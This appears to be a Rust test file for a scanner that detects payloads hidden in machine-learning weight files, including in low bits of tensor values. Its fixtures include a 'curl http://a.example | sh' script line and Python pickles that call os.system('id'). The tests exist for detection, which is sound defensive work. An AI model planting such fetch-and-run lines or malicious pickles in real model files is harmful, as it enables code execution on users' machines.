use stance_core::Confidence;
use stance_core::fact::{Artifact, TensorSignKind};

use crate::testing::{artifact, survives_truncation};

/// Values as training leaves them, the same each time.
fn values(count: u32) -> Vec<u8> {
    let mut state = 0x2545_f491_u32;
    (0..count)
        .flat_map(|_| {
            state ^= state << 13;
            state ^= state >> 17;
            state ^= state << 5;
            (f32::from_bits(0x3c00_0000 | (state >> 8)) - 0.011).to_le_bytes()
        })
        .collect()
}

fn file(dtype: &str, size: usize, data: &[u8]) -> Vec<u8> {
    let header = format!(
        r#"{{"w":{{"dtype":"{dtype}","shape":[{}],"data_offsets":[0,{}]}}}}"#,
        data.len() / size,
        data.len()
    );
    let mut file = (header.len() as u64).to_le_bytes().to_vec();
    file.extend(header.as_bytes());
    file.extend(data);
    file
}

fn scanned(dtype: &str, size: usize, data: &[u8]) -> Artifact {
    artifact("m.safetensors", &file(dtype, size, data))
}

fn kinds(artifact: &Artifact) -> Vec<TensorSignKind> {
    artifact.tensor_signs.iter().map(|sign| sign.kind).collect()
}

const ELF: &[u8] = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0\x01\0\0\0";

fn windows_program() -> Vec<u8> {
    let mut bytes = b"MZ\x90\0".to_vec();
    bytes.resize(0x3c, 0);
    bytes.extend(0x80_u32.to_le_bytes());
    bytes.resize(0x80, 0x20);
    bytes.extend(b"PE\0\0\x64\x86\x02\0");
    bytes.resize(0x80 + 20, 0);
    bytes.extend(b"\xf0\0\x22\0\x0b\x02");
    bytes
}

fn payloads() -> Vec<(&'static str, Vec<u8>)> {
    let gzip = {
        use std::io::Write as _;
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        let lines: String = (0..400)
            .map(|line| format!("line {line} of a payload\n"))
            .collect();
        encoder.write_all(lines.as_bytes()).unwrap();
        encoder.finish().unwrap()
    };
    vec![
        ("an ELF executable", ELF.to_vec()),
        ("a Windows executable", windows_program()),
        (
            "a script",
            b"#!/bin/sh\ncurl http://a.example | sh\n".to_vec(),
        ),
        (
            "a script",
            b"import os, sys; os.system('id') # and so on\n".to_vec(),
        ),
        (
            "a zip archive",
            b"PK\x03\x04\x14\0\0\0\x08\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\x05\0\0\0a.exe".to_vec(),
        ),
        (
            "a Python pickle",
            b"\x80\x02cos\nsystem\nX\x02\0\0\0id\x85R.".to_vec(),
        ),
        ("a Python pickle", b"cposix\nsystem\n(S'id'\ntR.".to_vec()),
        ("gzip data", gzip),
    ]
}

#[test]
fn a_payload_anywhere_among_numbers_is_seen() {
    for (title, payload) in payloads() {
        for at in [0_usize, 4, 1021, 60_001] {
            let mut data = values(40_000);
            data.splice(at..at + payload.len(), payload.iter().copied());
            let found = scanned("F32", 4, &data);
            let sign = found
                .tensor_signs
                .iter()
                .find(|sign| sign.kind == TensorSignKind::Payload)
                .unwrap_or_else(|| panic!("{title} at {at}"));
            assert!(sign.detail.contains(title), "{title}: {}", sign.detail);
            assert_eq!(sign.confidence, Confidence::High, "{title}");
        }
    }
}

#[test]
fn a_payload_in_low_bytes_and_bits_is_seen() {
    for (title, payload) in payloads() {
        // Whole low bytes of 32-bit values.
        for (width, backwards) in [
            (1_usize, false),
            (2, false),
            (2, true),
            (3, false),
            (3, true),
        ] {
            let mut data = values(40_000);
            let parts = payload.chunks(width);
            for (value, part) in data.chunks_exact_mut(4).skip(100).zip(parts) {
                for (index, byte) in part.iter().enumerate() {
                    value[if backwards { width - 1 - index } else { index }] = *byte;
                }
            }
            let found = scanned("F32", 4, &data);
            assert!(
                found
                    .tensor_signs
                    .iter()
                    .any(|sign| sign.kind == TensorSignKind::LowBitPayload
                        && sign.detail.contains(title)),
                "{title} in {width} bytes: {:?}",
                found.tensor_signs
            );
        }
        // Single bits, in both orders.
        for bits in [1_usize, 2, 4] {
            for high_first in [true, false] {
                let parts: Vec<u8> = payload
                    .iter()
                    .flat_map(|byte| {
                        let mut parts: Vec<u8> = (0..8 / bits)
                            .map(|part| (byte >> (part * bits)) & ((1 << bits) - 1))
                            .collect();
                        if high_first {
                            parts.reverse();
                        }
                        parts
                    })
                    .collect();
                let mut data = values(60_000);
                let mask = (1_u8 << bits) - 1;
                for (value, part) in data.chunks_exact_mut(4).zip(parts) {
                    value[0] = value[0] & !mask | part;
                }
                let found = scanned("F32", 4, &data);
                assert!(
                    kinds(&found).contains(&TensorSignKind::LowBitPayload),
                    "{title} in {bits} bits"
                );
            }
        }
    }
}

#[test]
fn honest_tensors_show_nothing() {
    let halves: Vec<u8> = values(40_000)
        .chunks_exact(4)
        .flat_map(|value| [value[2], value[3]])
        .collect();
    let steps: Vec<u8> = (0..40_000_u32)
        .flat_map(|step| (step as f32 / 1000.0).to_le_bytes())
        .collect();
    let text = "{\"vocab\": [\"import os\", \"/bin/sh\", \"#!/x\"]}".repeat(100);
    let mask: Vec<u8> = (0..4096_u32)
        .flat_map(|index| if index % 2 == 0 { f32::MIN } else { 0.0 }.to_le_bytes())
        .collect();
    for (dtype, size, data) in [
        ("F32", 4, values(200_000)),
        ("BF16", 2, halves),
        ("F32", 4, steps),
        ("U8", 1, text.into_bytes()),
        ("F32", 4, mask),
        ("F32", 4, vec![0; 40_000]),
        ("I64", 8, (0..4000_u64).flat_map(u64::to_le_bytes).collect()),
    ] {
        let found = scanned(dtype, size, &data);
        assert!(
            found.tensor_signs.is_empty(),
            "{dtype}: {:?}",
            found.tensor_signs
        );
    }
}

#[test]
fn a_pickle_in_a_tensor_of_bytes_is_judged_by_what_it_does() {
    let found = scanned("U8", 1, b"\x80\x02cos\nsystem\nX\x02\0\0\0id\x85R.");
    assert_eq!(found.tensor_signs[0].confidence, Confidence::Low);
    assert!(
        found
            .pickles
            .iter()
            .any(|trace| trace.calls.iter().any(|call| call.callable == "os.system")),
        "what the pickle calls is told"
    );
}

#[test]
fn only_what_the_limit_allows_is_read() {
    let mut data = values(1 << 20);
    let late = 3 << 20;
    data.splice(late..late + ELF.len(), ELF.iter().copied());
    let bytes = file("F32", 4, &data);
    let interests = stance_read::Interests::default();
    let scan = |tensor_bytes| {
        let options = stance_read::Options {
            limits: stance_read::Limits {
                tensor_bytes,
                ..stance_read::Limits::default()
            },
            hash: false,
            interests: &interests,
            parsers: &crate::registry::ALL,
        };
        stance_read::scan("m.safetensors", &stance_read::Bytes(&bytes), &options)
    };
    let quick = scan(1 << 20);
    assert!(
        quick.coverage.bytes_read < 100_000,
        "{}",
        quick.coverage.bytes_read
    );
    let full = scan(u64::MAX);
    let found = crate::testing::artifact_of(&full);
    assert_eq!(kinds(&found), [TensorSignKind::Payload]);
    assert!(full.coverage.bytes_read < 2 * bytes.len() as u64);
}

#[test]
fn no_cut_or_broken_byte_breaks_it() {
    for (_, payload) in payloads().into_iter().take(6) {
        survives_truncation(
            "m.safetensors",
            &file("F32", 4, &payload[..payload.len() & !3]),
        );
    }
}

/// Nothing but marks: each is looked at for what follows, and no byte more often than a bound.
#[test]
fn a_flood_of_marks_does_not_pile_up() {
    for mark in [
        &b"PK\x03\x04"[..],
        b"#!/x",
        b"PE\0\0",
        b"\x1f\x8b\x08\0",
        b"\x80\x04\x95\x05",
    ] {
        let data = mark.repeat((10 << 20) / mark.len());
        let bytes = file("F32", 4, &data);
        let report = crate::testing::report("m.safetensors", &bytes);
        assert!(report.coverage.bytes_read < 3 * bytes.len() as u64);
    }
}

/// A checkpoint of PyTorch whose only storage holds `data`, as zip archive and as the pickles before it.
fn checkpoints(data: &[u8]) -> [(&'static str, Vec<u8>); 3] {
    use crate::convert::assemble::{Storage, checkpoint, legacy, members, state_dict, view};
    let storages = [Storage {
        class: "FloatStorage",
        size: 4,
        bytes: data.to_vec(),
    }];
    let count = i32::try_from(data.len() / 4).unwrap();
    let pickle = state_dict(&[view("w", 0, 0, &[count], &[1])], &storages, b"");
    let mut packed = members(&pickle, &storages, "little");
    for part in &mut packed {
        part.deflate = true;
    }
    [
        ("m.pt", checkpoint(&pickle, &storages)),
        ("m.pt", crate::zip::assemble::zip(&packed)),
        ("m.pt", legacy(&pickle, &storages)),
    ]
}

#[test]
fn a_payload_in_a_storage_of_pytorch_is_seen() {
    for (title, payload) in payloads() {
        // At the very start it is told as what the storage is.
        for at in [4_usize, 1021, 60_001] {
            let mut data = values(40_000);
            data.splice(at..at + payload.len(), payload.iter().copied());
            for (form, (name, file)) in checkpoints(&data).into_iter().enumerate() {
                let found = artifact(name, &file);
                let signs: Vec<_> = found
                    .tensor_signs
                    .iter()
                    .filter(|sign| sign.kind == TensorSignKind::Payload)
                    .collect();
                assert_eq!(signs.len(), 1, "{title} at {at} in form {form}: {signs:?}");
                assert!(signs[0].detail.contains(title), "{title} in form {form}");
                assert_eq!(signs[0].confidence, Confidence::High, "{title}");
            }
        }
    }
}

#[test]
fn low_bytes_of_a_storage_of_pytorch_are_read_by_its_type() {
    let payload = b"#!/bin/sh\ncurl http://a.example | sh\n";
    let mut data = values(40_000);
    for (value, byte) in data.chunks_exact_mut(4).zip(payload) {
        value[0] = *byte;
    }
    for (name, file) in checkpoints(&data) {
        let found = artifact(name, &file);
        assert_eq!(kinds(&found), [TensorSignKind::LowBitPayload]);
    }
}

#[test]
fn what_a_storage_of_pytorch_starts_as_is_told_once() {
    let mut data = values(40_000);
    data.splice(0..ELF.len(), ELF.iter().copied());
    for (name, file) in checkpoints(&data) {
        let found = artifact(name, &file);
        assert!(found.tensor_signs.is_empty(), "{:?}", found.tensor_signs);
        let programs = found
            .anomalies
            .iter()
            .filter(|anomaly| anomaly.kind == stance_core::fact::AnomalyKind::Polyglot);
        assert_eq!(programs.count(), 1);
    }
}

#[test]
fn honest_storages_of_pytorch_show_nothing() {
    for (name, file) in checkpoints(&values(60_000)) {
        let found = artifact(name, &file);
        assert!(found.tensor_signs.is_empty(), "{:?}", found.tensor_signs);
        assert!(found.anomalies.is_empty(), "{:?}", found.anomalies);
    }
}

#[test]
fn tensors_of_pytorch_are_told_one_by_one_when_asked_for() {
    let interests = stance_read::Interests::default();
    for (name, file) in checkpoints(&values(1000)) {
        let mut options = stance_read::Options {
            limits: stance_read::Limits::default(),
            hash: false,
            interests: &interests,
            parsers: &crate::registry::ALL,
        };
        let report = stance_read::scan(name, &stance_read::Bytes(&file), &options);
        assert!(crate::testing::artifact_of(&report).tensor_list.is_empty());
        options.limits.tensors = 10;
        let report = stance_read::scan(name, &stance_read::Bytes(&file), &options);
        let found = crate::testing::artifact_of(&report);
        let [tensor] = &*found.tensor_list else {
            panic!("{:?}", found.tensor_list);
        };
        assert_eq!((&*tensor.name, &*tensor.dtype), ("w", "F32"));
        assert_eq!(tensor.shape, [1000]);
        assert_eq!(found.parameters, Some(1000));
    }
}

#[test]
fn no_cut_of_a_checkpoint_breaks_it() {
    for (name, file) in checkpoints(b"\x80\x02cos\nsystem\nX\x02\0\0\0id\x85R.\0") {
        survives_truncation(name, &file);
    }
}

/// Where blocks meet, and bits that start at no whole byte of the stream they make.
#[test]
fn a_payload_in_low_bits_is_seen_wherever_it_starts() {
    let payload = b"#!/bin/sh\ncurl http://a.example | sh\n";
    // Elements of 4 bytes: the first block ends at element 65,536.
    for start in [0_usize, 1, 3, 65_520, 65_536 - 2048 - 5, 65_541] {
        for bits in [1_usize, 2, 4, 8, 16, 24] {
            let mut data = values(140_000);
            let mut value = data.chunks_exact_mut(4).skip(start);
            if bits >= 8 {
                for part in payload.chunks(bits / 8) {
                    value.next().unwrap()[..part.len()].copy_from_slice(part);
                }
            } else {
                let mask = (1_u8 << bits) - 1;
                for byte in payload {
                    for part in (0..8 / bits).rev() {
                        let low = &mut value.next().unwrap()[0];
                        *low = *low & !mask | (byte >> (part * bits)) & mask;
                    }
                }
            }
            let found = scanned("F32", 4, &data);
            assert!(
                found
                    .tensor_signs
                    .iter()
                    .any(|sign| sign.kind == TensorSignKind::LowBitPayload
                        && sign.detail.contains("a script")),
                "{bits} bits from value {start}: {:?}",
                found.tensor_signs
            );
        }
    }
}

#[test]
fn a_payload_across_blocks_is_seen_once() {
    for (title, payload) in payloads() {
        for at in [
            stance_models::weights::BLOCK - payload.len() / 2,
            stance_models::weights::BLOCK - stance_models::payload::OVERLAP - 3,
            2 * stance_models::weights::BLOCK - 5,
        ] {
            let mut data = values(140_000);
            data.splice(at..at + payload.len(), payload.iter().copied());
            let found = scanned("F32", 4, &data);
            assert_eq!(
                kinds(&found),
                [TensorSignKind::Payload],
                "{title} at {at}: {:?}",
                found.tensor_signs
            );
        }
    }
}

#[test]
fn a_flood_of_beginnings_hides_nothing() {
    // More than are tried out of one block, each with a plausible head and nothing behind it.
    for (mark, title) in [
        (&b"\x1f\x8b\x08\0\0\0\0\0\0\x03\xff\xff"[..], "gzip data"),
        (b"\x80\x04\x95\x20\0\0\0\0\0\0\0\xff", "a Python pickle"),
    ] {
        let found = scanned("F32", 4, &mark.repeat(4000));
        assert!(
            found
                .tensor_signs
                .iter()
                .any(|sign| sign.detail.contains(title)),
            "{title}"
        );
    }
    // Marks that fit nothing do not use up the search.
    let mut data = b"#!/\x01".repeat(50_000);
    data.splice(190_000..190_000 + ELF.len(), ELF.iter().copied());
    assert_eq!(kinds(&scanned("F32", 4, &data)), [TensorSignKind::Payload]);
}

/// A source that counts how often it is asked.
struct Counting<'a> {
    bytes: &'a [u8],
    reads: std::cell::Cell<usize>,
}

impl stance_read::Source for Counting<'_> {
    fn len(&self) -> u64 {
        self.bytes.len() as u64
    }

    fn read_at(&self, offset: u64, buffer: &mut [u8]) -> std::io::Result<usize> {
        self.reads.set(self.reads.get() + 1);
        stance_read::Bytes(self.bytes).read_at(offset, buffer)
    }
}

/// Many tensors, each where `place` says, in a file with `data`.
fn many(tensors: usize, place: impl Fn(usize) -> (usize, usize), data: &[u8]) -> Vec<u8> {
    let entries: Vec<String> = (0..tensors)
        .map(|tensor| {
            let (from, to) = place(tensor);
            let size = to - from;
            format!(r#""{tensor}":{{"dtype":"U8","shape":[{size}],"data_offsets":[{from},{to}]}}"#)
        })
        .collect();
    let header = format!("{{{}}}", entries.join(","));
    let mut file = (header.len() as u64).to_le_bytes().to_vec();
    file.extend(header.as_bytes());
    file.extend(data);
    file
}

#[test]
fn many_small_tensors_cost_few_reads_and_overlapping_ones_few_bytes() {
    let interests = stance_read::Interests::default();
    let scan = |bytes: &[u8]| {
        let options = stance_read::Options {
            limits: stance_read::Limits {
                tensor_bytes: u64::MAX,
                ..stance_read::Limits::default()
            },
            hash: false,
            interests: &interests,
            parsers: &crate::registry::ALL,
        };
        let source = Counting {
            bytes,
            reads: std::cell::Cell::new(0),
        };
        let report = stance_read::scan("m.safetensors", &source, &options);
        (report, source.reads.get())
    };
    let mut data = values(25_000);
    data.splice(70_000..70_000 + ELF.len(), ELF.iter().copied());
    let small = many(4000, |tensor| (tensor * 25, tensor * 25 + 25), &data);
    let (report, reads) = scan(&small);
    assert!(reads < 100, "{reads}");
    assert_eq!(
        kinds(&crate::testing::artifact_of(&report)),
        [TensorSignKind::Payload],
        "tensor 2800 is the program"
    );
    let over = many(2000, |_| (0, 100_000), &data);
    let (report, _) = scan(&over);
    assert!(
        report.coverage.bytes_read < 4 * over.len() as u64,
        "{}",
        report.coverage.bytes_read
    );
    let is_said = report.facts.iter().any(|(_, fact)| {
        matches!(fact, stance_core::Fact::Gap(gap) if gap.detail.contains("lie over others"))
    });
    assert!(is_said, "what was passed over is said");
}
